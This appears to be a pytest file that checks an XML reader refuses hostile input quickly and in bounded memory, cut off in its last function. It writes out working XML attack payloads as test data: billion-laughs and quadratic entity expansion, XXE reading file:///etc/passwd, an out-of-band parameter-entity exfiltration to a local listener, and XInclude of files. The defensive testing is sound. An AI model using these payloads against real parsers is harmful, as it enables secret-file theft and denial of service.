"""Hostile XML: every attack is refused with the library's own error, fast, in bounded memory.

Each test runs the reader under a budget (:func:`measured`): wall time under two seconds and peak
resident memory under 200 MB more than before the call. The memory is the kernel's count
(``VmHWM`` after resetting it through ``/proc/self/clear_refs``), so libxml2's C allocations are
counted too, which ``tracemalloc`` would miss; elsewhere than on Linux the peak of
``getrusage`` is used, which only sees growth past the process's earlier peak.

The entity and DTD attacks also prove that nothing was fetched: a local listening socket must
receive no connection (whoever would open it, Python or libxml2), ``socket`` itself is made to
fail, a resolver spy added to the reader's parser must never be asked for a URL, and the secret
in a local file must appear nowhere in the outcome.
"""

from __future__ import annotations

import contextlib
import gc
import io
import secrets
import socket
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

import inspection_schema as ins
from inspection_schema.cli import ExitCode, main
from inspection_schema.codecs import xml
from inspection_schema.codecs.xml import reader
from inspection_schema.errors import (
    IssuesError,
    SchemaViolationError,
    UnreadableInputError,
    UnsupportedVersionError,
)
from inspection_schema.model import Document

DATA = Path(__file__).parent / "data"
MINIMAL = DATA / "minimal-round-plan.json"
SECONDS = 2.0
MEGABYTES = 200.0

DOCUMENT = ins.load(MINIMAL)
VALID = xml.dumps(DOCUMENT)
DECLARATION = b'<?xml version="1.0" encoding="UTF-8"?>\n'
BODY = VALID.removeprefix(DECLARATION)
NAME = "中共某市委员会".encode()
"""A text value of the minimal document, replaced to carry an attack."""
NS = xml.NAMESPACE.encode()


def with_text(replacement: bytes, data: bytes = BODY) -> bytes:
    """The minimal document with the first organisation's name replaced (raw bytes)."""
    assert NAME in data
    return data.replace(NAME, replacement, 1)


def replaced(old: bytes, new: bytes, data: bytes = BODY) -> bytes:
    assert old in data, old
    return data.replace(old, new, 1)


def commitments(items: bytes) -> bytes:
    """The minimal document with one response whose commitments (a list of text) are ``items``."""
    return replaced(
        b"</document>",
        b'<inspections><inspection id="i" organisation="org-office">'
        b'<feedback id="f" date="2023-06-09"><responses><response id="r" by="org-office">'
        b"<text>t</text><commitments>" + items + b"</commitments></response></responses>"
        b"</feedback></inspection></inspections></document>",
    )


# -- the budget ---------------------------------------------------------------------------------


def _status_kib(field: str) -> int:
    for line in Path("/proc/self/status").read_text(encoding="ascii").splitlines():
        if line.startswith(f"{field}:"):
            return int(line.split()[1])
    raise LookupError(field)


def _reset_peak() -> bool:
    """Reset the kernel's peak resident size of this process to its current size, if possible."""
    try:
        Path("/proc/self/clear_refs").write_text("5", encoding="ascii")
        _status_kib("VmHWM")
    except (OSError, LookupError):
        return False
    return True


def _maxrss_mib() -> float | None:
    try:
        import resource
    except ImportError:  # pragma: no cover - Windows
        return None
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    return peak / (1024 * 1024) if sys.platform == "darwin" else peak / 1024


def measured(call: Callable[[], object]) -> tuple[object, float, float | None]:
    """What ``call`` returned or raised, its wall time, and how much the peak memory grew (MiB)."""
    gc.collect()
    exact = _reset_peak()
    before = _status_kib("VmRSS") / 1024 if exact else _maxrss_mib()
    started = time.perf_counter()
    outcome: object
    try:
        outcome = call()
    except Exception as exc:  # noqa: BLE001 - the outcome is checked by the caller
        outcome = exc
    elapsed = time.perf_counter() - started
    after = _status_kib("VmHWM") / 1024 if exact else _maxrss_mib()
    grown = None if before is None or after is None else after - before
    return outcome, elapsed, grown


def within_budget(
    outcome: object, elapsed: float, grown: float | None, seconds: float, megabytes: float
) -> None:
    assert elapsed < seconds, f"took {elapsed:.2f} s (budget {seconds} s)"
    if grown is not None:
        assert grown < megabytes, f"peak memory grew by {grown:.0f} MiB (budget {megabytes})"


def refused(
    data: Any,
    error: type[IssuesError] = UnreadableInputError,
    *,
    limits: reader.ReadLimits = reader.DEFAULT_LIMITS,
    seconds: float = SECONDS,
    megabytes: float = MEGABYTES,
) -> IssuesError:
    """Read ``data``, which must raise exactly ``error``, within the budget."""
    outcome, elapsed, grown = measured(lambda: xml.loads(data, limits=limits))
    if type(outcome) is not error:
        cause = outcome if isinstance(outcome, BaseException) else None
        raise AssertionError(f"expected {error.__name__}, got {outcome!r}") from cause
    within_budget(outcome, elapsed, grown, seconds, megabytes)
    assert isinstance(outcome, IssuesError)
    assert outcome.issues, "an error without issues"
    for issue in outcome.issues:
        assert issue.message
        assert issue.message_zh
        assert issue.path.startswith("/")
        assert len(issue.message) < 1000, "a message quoting the input at length"
    return outcome


def accepted(data: Any, *, seconds: float = SECONDS, megabytes: float = MEGABYTES) -> Document:
    outcome, elapsed, grown = measured(lambda: xml.loads(data))
    if not isinstance(outcome, Document):
        cause = outcome if isinstance(outcome, BaseException) else None
        raise AssertionError(f"expected a document, got {outcome!r}") from cause
    within_budget(outcome, elapsed, grown, seconds, megabytes)
    return outcome


def messages(error: IssuesError) -> str:
    return "\n".join(f"{i.code} {i.path} {i.message} {i.message_zh}" for i in error.issues)


# -- guards: no network, no file ----------------------------------------------------------------


class Listener:
    """A local TCP port that records whether anyone connected to it."""

    def __init__(self) -> None:
        self.server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(8)
        self.server.setblocking(False)
        self.url = f"http://127.0.0.1:{self.server.getsockname()[1]}"

    def assert_untouched(self) -> None:
        try:
            connection, _ = self.server.accept()
        except BlockingIOError:
            return
        connection.close()
        pytest.fail(f"something connected to {self.url}")


@pytest.fixture
def listener() -> Iterator[Listener]:
    guard = Listener()
    try:
        yield guard
    finally:
        guard.server.close()


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch, listener: Listener) -> Iterator[list[object]]:
    """Every Python-level way to open a connection fails, and is recorded."""
    attempts: list[object] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(args)
        raise OSError("the network is off limits in this test")

    for name in ("connect", "connect_ex"):
        monkeypatch.setattr(socket.socket, name, refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    yield attempts
    assert attempts == []
    listener.assert_untouched()


class Spy(etree.Resolver):  # type: ignore[misc]
    """A resolver that records what libxml2 wanted to load, and gives it nothing."""

    def __init__(self, urls: list[str]) -> None:
        super().__init__()
        self.urls = urls

    def resolve(self, system_url: str, public_id: str, context: object) -> Any:
        self.urls.append(system_url)
        return self.resolve_string("", context)


class Parsers:
    def __init__(self) -> None:
        self.made = 0
        self.urls: list[str] = []


@pytest.fixture
def parsers(monkeypatch: pytest.MonkeyPatch) -> Parsers:
    """The reader's parsers, counted, each with a :class:`Spy` resolver."""
    seen = Parsers()
    original = reader.make_parser

    def spied() -> etree.XMLParser:
        seen.made += 1
        parser = original()
        parser.resolvers.add(Spy(seen.urls))
        return parser

    monkeypatch.setattr(reader, "make_parser", spied)
    return seen


@pytest.fixture
def secret_file(tmp_path: Path) -> tuple[Path, str]:
    secret = f"SECRET-{secrets.token_hex(8)}"
    path = tmp_path / "secret.txt"
    path.write_text(secret, encoding="ascii")
    return path, secret


def test_the_spy_sees_what_an_unguarded_parser_loads(secret_file: tuple[Path, str]) -> None:
    """Control: the spy would notice a load, so its silence in the tests below means something."""
    path, secret = secret_file
    urls: list[str] = []
    parser = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=True)
    parser.resolvers.add(Spy(urls))
    attack = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{path.as_uri()}">]><d>&x;</d>'.encode()
    etree.fromstring(attack, parser)
    assert urls == [path.as_uri()]
    unguarded = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=True)
    assert etree.fromstring(attack, unguarded).text == secret


# -- entities and DTDs --------------------------------------------------------------------------


def billion_laughs() -> bytes:
    levels = [b'<!ENTITY lol0 "lol">']
    levels += [
        b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10) for level in range(1, 10)
    ]
    return DECLARATION + b"<!DOCTYPE document [" + b"".join(levels) + b"]>\n" + with_text(b"&lol9;")


def quadratic_blowup() -> bytes:
    entity = b"x" * 100_000
    return b'<!DOCTYPE document [<!ENTITY a "' + entity + b'">]>\n' + with_text(b"&a;" * 100_000)


@pytest.mark.parametrize("attack", [billion_laughs, quadratic_blowup])
def test_entity_expansion_is_refused_before_parsing(
    attack: Callable[[], bytes], parsers: Parsers
) -> None:
    error = refused(attack())
    assert "DOCTYPE" in messages(error)
    assert parsers.made == 0, "the parser saw a DOCTYPE"


def test_xxe_through_a_general_entity_reads_no_file(
    parsers: Parsers, no_network: list[object], secret_file: tuple[Path, str]
) -> None:
    path, secret = secret_file
    for target in ("file:///etc/passwd", path.as_uri()):
        doctype = f'<!DOCTYPE document [<!ENTITY x SYSTEM "{target}">]>\n'
        error = refused(doctype.encode() + with_text(b"&x;"))
        assert "DOCTYPE" in messages(error)
        assert secret not in str(error)
        assert "root:" not in str(error)
    assert parsers.made == 0
    assert parsers.urls == []


def test_xxe_through_a_parameter_entity_fetches_nothing(
    parsers: Parsers, no_network: list[object], listener: Listener, secret_file: tuple[Path, str]
) -> None:
    path, secret = secret_file
    attacks = [
        f'<!DOCTYPE document [<!ENTITY % x SYSTEM "{path.as_uri()}"> %x;]>\n',
        f'<!DOCTYPE document [<!ENTITY % dtd SYSTEM "{listener.url}/evil.dtd"> %dtd;]>\n',
        # the classic out-of-band exfiltration: a file read into a URL
        f'<!DOCTYPE document [<!ENTITY % file SYSTEM "{path.as_uri()}">'
        f"<!ENTITY % send \"<!ENTITY &#x25; out SYSTEM '{listener.url}/?%file;'>\">"
        "%send; %out;]>\n",
    ]
    for attack in attacks:
        error = refused(attack.encode() + BODY)
        assert "DOCTYPE" in messages(error)
        assert secret not in str(error)
    assert parsers.made == 0
    assert parsers.urls == []


def test_an_external_dtd_is_never_fetched(
    parsers: Parsers, no_network: list[object], listener: Listener
) -> None:
    for doctype in (
        f'<!DOCTYPE document SYSTEM "{listener.url}/format.dtd">\n',
        f'<!DOCTYPE document PUBLIC "-//X//DTD X//EN" "{listener.url}/format.dtd">\n',
    ):
        error = refused(DECLARATION + doctype.encode() + BODY)
        assert "DOCTYPE" in messages(error)
    assert parsers.made == 0
    assert parsers.urls == []


@pytest.mark.parametrize(
    "prolog",
    [
        pytest.param(b"<!-- a comment -->\n<?pi data?>\n", id="after-comment-and-pi"),
        pytest.param(b"<!-- x -->\n" * 1000, id="after-1000-comments"),
        pytest.param(b"<!--" + b"x" * 1_000_000 + b"-->\n", id="after-a-1MB-comment"),
        pytest.param(b"<!-->\n<a/>\n-->\n", id="after-a-comment-that-looks-closed"),
        pytest.param(b"<?pi ?>?>\n<?>\n", id="after-tricky-pis"),
        pytest.param(b"\xef\xbb\xbf", id="after-a-bom"),
    ],
)
@pytest.mark.parametrize(
    "doctype",
    [
        pytest.param(b'<!DOCTYPE document [<!ENTITY x "y">]>\n', id="upper"),
        pytest.param(b'<!doctype document [<!ENTITY x "y">]>\n', id="lower"),
        pytest.param(b'<!DocType document [<!ENTITY x "y">]>\n', id="mixed"),
    ],
)
def test_a_doctype_hidden_in_the_prolog_is_refused_before_parsing(
    prolog: bytes, doctype: bytes, parsers: Parsers
) -> None:
    if prolog.startswith(b"\xef\xbb\xbf"):
        data = prolog + doctype + with_text(b"&x;")
    else:
        data = DECLARATION + prolog + doctype + with_text(b"&x;")
    error = refused(data)
    assert "DOCTYPE" in messages(error)
    assert parsers.made == 0, "the prolog check let a DOCTYPE through to the parser"


def test_an_entity_reference_without_a_doctype_is_refused(parsers: Parsers) -> None:
    for attack in (
        with_text(b"&x;"),
        replaced(b'id="org-committee"', b'id="&x;"'),
        with_text(b"&x"),
    ):
        error = refused(attack)
        assert "not well-formed XML" in messages(error)
        assert error.issues[0].line is not None
    assert parsers.urls == []


def test_xinclude_is_refused_and_never_processed(
    parsers: Parsers, no_network: list[object], listener: Listener, secret_file: tuple[Path, str]
) -> None:
    path, secret = secret_file
    xi = b'xmlns:xi="http://www.w3.org/2001/XInclude"'
    for target in (path.as_uri().encode(), f"{listener.url}/x.xml".encode()):
        include = b'<xi:include %s href="%s" parse="text"/>' % (xi, target)
        for attack, where in (
            (replaced(b"<people>", include + b"<people>"), "/document/include"),
            (with_text(include), "/document/organisations/organisation[1]/name"),
            (replaced(b"</people>", include + b"</people>"), "/document/people/include"),
        ):
            error = refused(attack)  # unusable input (exit 2), never processed
            assert "XInclude" in messages(error), where
            assert secret not in str(error)
    assert parsers.made > 0
    assert parsers.urls == []


# -- size, depth, width -------------------------------------------------------------------------


def test_200000_deep_nesting_is_refused() -> None:
    opened = b'<document xmlns="' + NS + b'">' + b"<a>" * 200_000
    for data in (opened + b"</a>" * 200_000 + b"</document>", opened):
        error = refused(data)
        assert "nesting 256 deep" in messages(error)


def test_nesting_within_libxml2s_limit_is_refused_by_the_readers_limit() -> None:
    nested = b"<fn:array>" * 200 + b"</fn:array>" * 200
    data = replaced(
        b"</document>",
        b'<extensions><extension namespace="x">' + nested + b"</extension></extensions></document>",
    )
    error = refused(data)
    assert "X004" in {issue.code for issue in error.issues}


def test_a_60_MB_text_node_is_refused() -> None:
    data = with_text(b"x" * 60_000_000)
    error = refused(data)
    assert "Text node too long" in messages(error)
    assert error.issues[0].line == 4


def test_a_text_over_the_readers_limit_is_refused() -> None:
    error = refused(with_text(b"x" * 2_000_000))
    assert "X003" in {issue.code for issue in error.issues}
    limits = reader.ReadLimits(max_text=30)  # longer than every attribute of the document
    error = refused(with_text(b"x" * 31), limits=limits)
    assert "/document/organisations/organisation[1]/name" in {i.path for i in error.issues}


def test_very_long_attribute_values_are_refused() -> None:
    error = refused(replaced(b'id="org-committee"', b'id="' + b"a" * 5_000_000 + b'"'))
    assert "X003" in {issue.code for issue in error.issues}
    error = refused(replaced(b'id="org-committee"', b'id="' + b"a" * 60_000_000 + b'"'))
    assert "parser's fixed limits" in messages(error)


def test_very_long_names_are_refused() -> None:
    long_name = b"n" * 60_000
    for data in (
        replaced(b"<people>", b"<" + long_name + b"/><people>"),
        replaced(b"<people>", b"<people " + long_name + b'="1">'),
        b"<" + long_name + b"/>",
    ):
        error = refused(data)
        assert "Name too long" in messages(error)


def test_200000_attributes_on_one_element_are_refused() -> None:
    attributes = b" ".join(b'a%d="1"' % i for i in range(200_000))
    for data in (
        replaced(b"<document ", b"<document " + attributes + b" "),
        replaced(b"<people>", b"<people " + attributes + b">"),
    ):
        error = refused(data)
        assert {issue.code for issue in error.issues} == {"X005"}


def test_a_list_of_a_million_items_is_read_in_linear_time() -> None:
    document = accepted(commitments(b"<item/>" * 1_000_000))
    assert document.inspections[0].feedback is not None
    assert len(document.inspections[0].feedback.responses[0].commitments) == 1_000_000


def test_a_million_problems_are_cut_short() -> None:
    for items in (b"<bogus/>" * 1_000_000, b"<item><b/></item>" * 300_000):
        error = refused(commitments(items), SchemaViolationError)
        assert len(error.issues) == reader.DEFAULT_LIMITS.max_issues + 1
        assert error.issues[-1].code == "X006"
        assert "stopped" in error.issues[-1].message


def test_problems_late_in_a_long_list_are_reported_in_linear_time() -> None:
    """Each problem's XPath names its position; finding it must not cost a walk per problem."""
    good = b"".join(b'<person id="q%d"><name>x</name></person>' % i for i in range(50_000))
    bad = b'<person id="1"><name>x</name></person>' * 20_000
    error = refused(replaced(b"</people>", good + bad + b"</people>"), SchemaViolationError)
    paths = [issue.path for issue in error.issues]
    assert paths[0] == "/document/people/person[50002]/@id"
    assert "/document/people/person[50501]/@id" in paths
    unique = b"".join(b"<bogus%d/>" % i for i in range(2000))
    error = refused(replaced(b"</people>", good + unique + b"</people>"), SchemaViolationError)
    assert error.issues[0].path == "/document/people/bogus0"


def test_the_problem_limit_is_configurable() -> None:
    limits = reader.ReadLimits(max_issues=5)
    error = refused(commitments(b"<bogus/>" * 100), SchemaViolationError, limits=limits)
    assert [issue.path for issue in error.issues[:2]] == [
        "/document/inspections/inspection/feedback/responses/response/commitments/bogus[1]",
        "/document/inspections/inspection/feedback/responses/response/commitments/bogus[2]",
    ]
    assert len(error.issues) == 6
    assert error.issues[-1].code == "X006"


def test_positions_are_the_same_with_and_without_the_memo() -> None:
    tags = ["a", "b", "a", "c", "a", "b", "{urn:z}a", "d", "a"]
    root = etree.fromstring(
        b'<r xmlns:z="urn:z">'
        + b"".join(
            f"<{t.replace('{urn:z}', 'z:')}><x/><x/><y/></{t.replace('{urn:z}', 'z:')}>".encode()
            for t in tags
        )
        + b"</r>"
    )

    def naive(element: Any) -> str:
        steps = []
        while element is not None:
            parent = element.getparent()
            local = etree.QName(element).localname
            same = [] if parent is None else [s for s in parent if s.tag == element.tag]
            steps.append(f"{local}[{same.index(element) + 1}]" if len(same) > 1 else local)
            element = parent
        return "/" + "/".join(reversed(steps))

    everything = list(root.iter())
    memo: dict[Any, int] = {}
    for order in (everything, everything[::-1], everything[::3] + everything):
        for element in order:
            assert reader.xpath_of(element) == naive(element)
            assert reader.xpath_of(element, memo) == naive(element)


# -- encodings and bytes ------------------------------------------------------------------------


def utf(codec: str, text: bytes = VALID) -> bytes:
    return text.decode("utf-8").replace("UTF-8", codec.upper()).encode(codec)


UNREADABLE: list[Any] = [
    # (id, data, phrase in the message)
    ("invalid-utf8", lambda: with_text(b"\xff\xfe\xfa"), "character encoding"),
    ("invalid-utf8-in-attribute", lambda: replaced(b"org-committee", b"org-\xff"), "encoding"),
    ("cesu-surrogate-bytes", lambda: with_text(b"\xed\xa0\x80"), "character encoding"),
    ("overlong-utf8", lambda: with_text(b"\xc0\xaf"), "character encoding"),
    ("declared-latin1", lambda: VALID.replace(b"UTF-8", b"ISO-8859-1"), "ISO-8859-1"),
    ("declared-gb18030", lambda: VALID.replace(b"UTF-8", b"GB18030"), "GB18030"),
    ("declared-gbk-single-quotes", lambda: VALID.replace(b'"UTF-8"', b"'GBK'"), "GBK"),
    (
        "declared-latin1-after-bom",
        lambda: b"\xef\xbb\xbf" + VALID.replace(b"UTF-8", b"latin1"),
        "latin1",
    ),
    ("declared-odd-name", lambda: VALID.replace(b"UTF-8", b"ISO_8859-1:1987"), "not well-formed"),
    ("undeclared-gb18030", lambda: BODY.decode().encode("gb18030"), "character encoding"),
    ("utf16-bom", lambda: utf("utf-16"), "UTF-16"),
    ("utf16le-no-bom", lambda: utf("utf-16-le"), "UTF-16"),
    ("utf16be-no-bom-no-declaration", lambda: BODY.decode().encode("utf-16-be"), "UTF-16"),
    ("utf32-bom", lambda: utf("utf-32"), "UTF-32"),
    ("utf32be-no-bom", lambda: BODY.decode().encode("utf-32-be"), "UTF-32"),
    (
        "utf32le-no-bom-with-doctype",
        lambda: (b'<!DOCTYPE d [<!ENTITY x "y">]>' + BODY).decode().encode("utf-32-le"),
        "UTF-32",
    ),
    ("nul-byte", lambda: with_text(b"\x00"), "Char 0x0"),
    ("truncated", lambda: VALID[: len(VALID) // 2], "not well-formed"),
    ("truncated-in-a-character", lambda: VALID[: VALID.index(NAME) + 1], "not well-formed"),
    ("truncated-to-the-declaration", lambda: DECLARATION, "not well-formed"),
    ("empty", lambda: b"", "empty"),
    ("whitespace-only", lambda: b" \n\t\r\n", "empty"),
    ("not-xml", lambda: b"hello, world", "not well-formed"),
    ("json", lambda: MINIMAL.read_bytes(), "not well-formed"),
    ("png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "not well-formed"),
    ("html", lambda: b"<!DOCTYPE html><html><body>x</body></html>", "DOCTYPE"),
    ("two-roots", lambda: BODY + BODY, "Extra content"),
    ("declaration-not-first", lambda: b" " + VALID, "XML declaration"),
]


@pytest.mark.parametrize(
    ("build", "phrase"), [p[1:] for p in UNREADABLE], ids=[p[0] for p in UNREADABLE]
)
def test_unusable_bytes_are_refused(build: Callable[[], bytes], phrase: str) -> None:
    error = refused(build())
    assert phrase in messages(error)
    assert len(error.issues) == 1
    assert error.issues[0].code == "X001"


def test_text_input_that_utf8_cannot_carry_is_refused() -> None:
    error = refused(
        with_text("\ud800".encode("utf-8", "surrogatepass")).decode("utf-8", "surrogatepass")
    )
    assert "U+D800" in messages(error)


@pytest.mark.parametrize(("fmt", "code"), [("json", "S001"), ("xml", "X001")])
def test_text_with_a_lone_surrogate_is_refused_through_the_api_by_each_format(
    fmt: str, code: str
) -> None:
    # ins.loads turns text into bytes before the format's reader sees it: that step must not
    # raise Python's UnicodeEncodeError, and the reader refuses the bytes in its own terms
    example = Path(__file__).parent.parent / "examples" / f"fulian-2023.{fmt}"
    text = example.read_text(encoding="utf-8").replace("巡察", "巡\ud800察", 1)
    with pytest.raises(ins.UnreadableInputError) as raised:
        ins.loads(text, format=fmt)
    assert [issue.code for issue in raised.value.issues] == [code]


def test_bytes_like_input_is_read_and_other_types_are_a_type_error() -> None:
    assert accepted(memoryview(VALID)) == DOCUMENT
    assert accepted(bytearray(VALID)) == DOCUMENT
    assert accepted(VALID.decode("utf-8")) == DOCUMENT
    with pytest.raises(TypeError, match="bytes"):
        xml.loads(None)  # type: ignore[arg-type]


# -- character references -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "reference",
    [
        b"&#0;",
        b"&#x0;",
        b"&#1;",
        b"&#x1F;",
        b"&#xD800;",
        b"&#xDFFF;",
        b"&#55296;",
        b"&#xFFFE;",
        b"&#xFFFF;",
        b"&#x110000;",
        b"&#99999999999999999999;",
        b"&#;",
        b"&#x;",
        b"&#xZZ;",
    ],
)
def test_references_to_characters_xml_forbids_are_refused(reference: bytes) -> None:
    for data in (with_text(reference), replaced(b'id="org-committee"', b'id="' + reference + b'"')):
        error = refused(data)
        assert "not well-formed XML" in messages(error)


def test_references_to_allowed_characters_give_the_same_value() -> None:
    escaped = b"".join(b"&#x%X;" % ord(char) for char in "中共某市委员会")
    assert accepted(with_text(escaped)) == DOCUMENT
    document = accepted(with_text(b"&amp;&lt;&gt;&quot;&apos;&#9;&#x1F600;"))
    assert document.organisations[0].name == "&<>\"'\t\U0001f600"


# -- namespaces ---------------------------------------------------------------------------------


def test_another_major_version_is_refused_naming_both() -> None:
    for other in (b"2", b"10"):
        data = VALID.replace(NS, NS[:-1] + other)
        error = refused(data, UnsupportedVersionError)
        message = messages(error)
        assert f"version {other.decode()}" in message
        assert "version 1" in message


@pytest.mark.parametrize(
    "namespace",
    [NS + b"/", NS[:-1], NS + b".0", NS[:-1] + b"9" * 100_000],
    ids=["trailing-slash", "no-version", "minor-version", "100000-digits"],
)
def test_a_namespace_that_only_looks_like_a_version_is_a_foreign_root(namespace: bytes) -> None:
    error = refused(VALID.replace(NS, namespace))
    assert "not a namespace of the format" in messages(error)


@pytest.mark.parametrize(
    ("data", "phrase"),
    [
        (b"<html/>", "root element is html"),
        (b"<document/>", "root element is document,"),
        (b'<document xmlns="http://inspection-schema.org/ns/1"/>', "http://inspection-schema"),
        (b'<round xmlns="urn:x"/>', "{urn:x}round"),
        (b'<r xmlns="urn:' + b"x" * 100_000 + b'"/>', "root element is"),
    ],
    ids=["html", "no-namespace", "http-namespace", "other-namespace", "100000-character-namespace"],
)
def test_a_foreign_root_is_refused(data: bytes, phrase: str) -> None:
    assert phrase in messages(refused(data))


def test_namespace_tricks() -> None:
    # the format's namespace under a prefix is the same document
    prefixed = replaced(b"<people>", b'<p:people xmlns:p="' + NS + b'">').replace(
        b"</people>", b"</p:people>"
    )
    assert accepted(prefixed) == DOCUMENT
    # a child moved to another namespace, or to none, is unknown
    for child in (b'<people xmlns="urn:evil">', b'<people xmlns="">'):
        error = refused(replaced(b"<people>", child), SchemaViolationError)
        assert ("S102", "/document/people") in {(i.code, i.path) for i in error.issues}
    # attributes in a namespace, the format's own or xml:, are unknown
    for attribute, path in (
        (b'xmlns:i="' + NS + b'" i:kind="x"', "@{" + xml.NAMESPACE + "}kind"),
        (b'xml:lang="zh"', "@xml:lang"),
        (b'xml:space="preserve"', "@xml:space"),
        (b'xml:id="x"', "@xml:id"),
        (b'xmlns:z="urn:z" z:id="x"', "@{urn:z}id"),
    ):
        data = replaced(
            b'<organisation id="org-committee"',
            b"<organisation " + attribute + b' id="org-committee"',
        )
        error = refused(data, SchemaViolationError)
        assert f"/document/organisations/organisation[1]/{path}" in {i.path for i in error.issues}
    # what namespaces in XML forbids is not well-formed
    for broken in (
        replaced(b"<people>", b'<people xmlns:xml="urn:bad">'),
        replaced(b"<people>", b'<people xmlns:xmlns="urn:bad">'),
        replaced(b"<people>", b'<people xmlns:p="">'),
        replaced(b"<people>", b"<q:people>").replace(b"</people>", b"</q:people>"),
        replaced(b"<people>", b'<people q:x="1">'),
        replaced(b"<people>", b'<people xmlns:a="urn:z" xmlns:b="urn:z" a:x="1" b:x="2">'),
    ):
        refused(broken)


def test_100000_namespace_declarations_are_read_quickly() -> None:
    declarations = b" ".join(b'xmlns:n%d="urn:%d"' % (i, i) for i in range(100_000))
    assert accepted(replaced(b"<people>", b"<people " + declarations + b">")) == DOCUMENT


# -- harmless markup ----------------------------------------------------------------------------


def test_comments_and_processing_instructions_are_ignored() -> None:
    data = (
        DECLARATION
        + b"<!-- before --><?before x?>\n"
        + replaced(b"<people>", b"<!-- c --><?pi data?><people><!--x--><?y?>")
        + b"<!-- after --><?after?>\n"
    )
    data = data.replace(NAME, "中共<!-- in text -->某市<?pi?>委员会".encode(), 1)
    assert accepted(data) == DOCUMENT


def test_cdata_sections_give_the_same_value() -> None:
    assert accepted(with_text(b"<![CDATA[" + NAME + b"]]>")) == DOCUMENT
    assert accepted(with_text("中共<![CDATA[某市]]>委员会".encode())) == DOCUMENT
    document = accepted(with_text(b"<![CDATA[<&>]]]]><![CDATA[>&amp;]]>"))
    assert document.organisations[0].name == "<&>]]>&amp;"


def test_variants_of_the_declaration_and_a_bom_are_fine() -> None:
    for data in (
        BODY,
        b"\xef\xbb\xbf" + VALID,
        b"<?xml version='1.0' encoding='utf-8'?>\n" + BODY,
        b'<?xml version="1.0" encoding="utf8"?>\n' + BODY,
        b'<?xml version="1.0"?>\n' + BODY,
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + BODY,
    ):
        assert accepted(data) == DOCUMENT


# -- the command line ---------------------------------------------------------------------------


CLI_CASES: list[Any] = [
    ("valid", lambda: VALID, ExitCode.OK, "通过"),
    ("billion-laughs", billion_laughs, ExitCode.UNUSABLE, "DOCTYPE"),
    ("quadratic-blowup", quadratic_blowup, ExitCode.UNUSABLE, "DOCTYPE"),
    (
        "xxe",
        lambda: (
            b'<!DOCTYPE document [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + with_text(b"&x;")
        ),
        ExitCode.UNUSABLE,
        "DOCTYPE",
    ),
    (
        "xxe-parameter",
        lambda: b'<!DOCTYPE d [<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;]>' + BODY,
        ExitCode.UNUSABLE,
        "DOCTYPE",
    ),
    (
        "external-dtd",
        lambda: b'<!DOCTYPE document SYSTEM "http://127.0.0.1:9/x.dtd">' + BODY,
        ExitCode.UNUSABLE,
        "DOCTYPE",
    ),
    ("entity-without-doctype", lambda: with_text(b"&x;"), ExitCode.UNUSABLE, "Entity 'x'"),
    (
        "xinclude",
        lambda: replaced(
            b"<people>",
            b'<xi:include xmlns:xi="http://www.w3.org/2001/'
            b'XInclude" href="file:///etc/passwd" parse="text"/><people>',
        ),
        ExitCode.UNUSABLE,
        "XInclude",
    ),
    ("deep", lambda: b"<a>" * 200_000 + b"</a>" * 200_000, ExitCode.UNUSABLE, "256"),
    ("60MB-text", lambda: with_text(b"x" * 60_000_000), ExitCode.UNUSABLE, "Text node too long"),
    ("invalid-utf8", lambda: with_text(b"\xff"), ExitCode.UNUSABLE, "encoding"),
    ("latin1", lambda: VALID.replace(b"UTF-8", b"ISO-8859-1"), ExitCode.UNUSABLE, "ISO-8859-1"),
    ("utf16", lambda: utf("utf-16"), ExitCode.UNUSABLE, "UTF-16"),
    ("truncated", lambda: VALID[:200], ExitCode.UNUSABLE, "not well-formed"),
    ("empty", lambda: b"", ExitCode.UNUSABLE, "empty"),
    ("not-xml", lambda: b"hello", ExitCode.UNUSABLE, "not well-formed"),
    ("foreign-root", lambda: b"<html/>", ExitCode.UNUSABLE, "root element is html"),
    ("version-2", lambda: VALID.replace(NS, NS[:-1] + b"2"), ExitCode.PROBLEMS, "version 2"),
    (
        "comments-and-pis",
        lambda: replaced(b"<people>", b"<!--c--><?p?><people>"),
        ExitCode.OK,
        "通过",
    ),
    (
        "a-million-problems",
        lambda: commitments(b"<bogus/>" * 1_000_000),
        ExitCode.PROBLEMS,
        "bogus",
    ),
]


@pytest.mark.parametrize(
    ("build", "code", "phrase"), [c[1:] for c in CLI_CASES], ids=[c[0] for c in CLI_CASES]
)
def test_cli_validate(
    build: Callable[[], bytes],
    code: ExitCode,
    phrase: str,
    tmp_path: Path,
    no_network: list[object],
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = tmp_path / "doc.xml"
    path.write_bytes(build())
    outcome, elapsed, grown = measured(lambda: main(["validate", str(path)]))
    out, err = capsys.readouterr()
    assert "internal error" not in err, err
    assert outcome == code, (out, err)
    assert phrase in out + err
    if code != ExitCode.OK:
        assert str(path) in out
    within_budget(outcome, elapsed, grown, SECONDS, MEGABYTES)


MANY_SCHEMA_PROBLEMS: list[Any] = [
    (
        "1500-bad-ids",
        lambda: replaced(
            b"</people>", b'<person id="1"><name>x</name></person>' * 1500 + b"</people>"
        ),
    ),
    (
        "5000-attributes",
        lambda: replaced(
            b"<document ", b"<document " + b" ".join(b'a%d="1"' % i for i in range(5000)) + b" "
        ),
    ),
]


@pytest.mark.parametrize(
    "build", [c[1] for c in MANY_SCHEMA_PROBLEMS], ids=[c[0] for c in MANY_SCHEMA_PROBLEMS]
)
def test_cli_validate_of_many_schema_problems_is_cut_short(
    build: Callable[[], bytes], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "doc.xml"
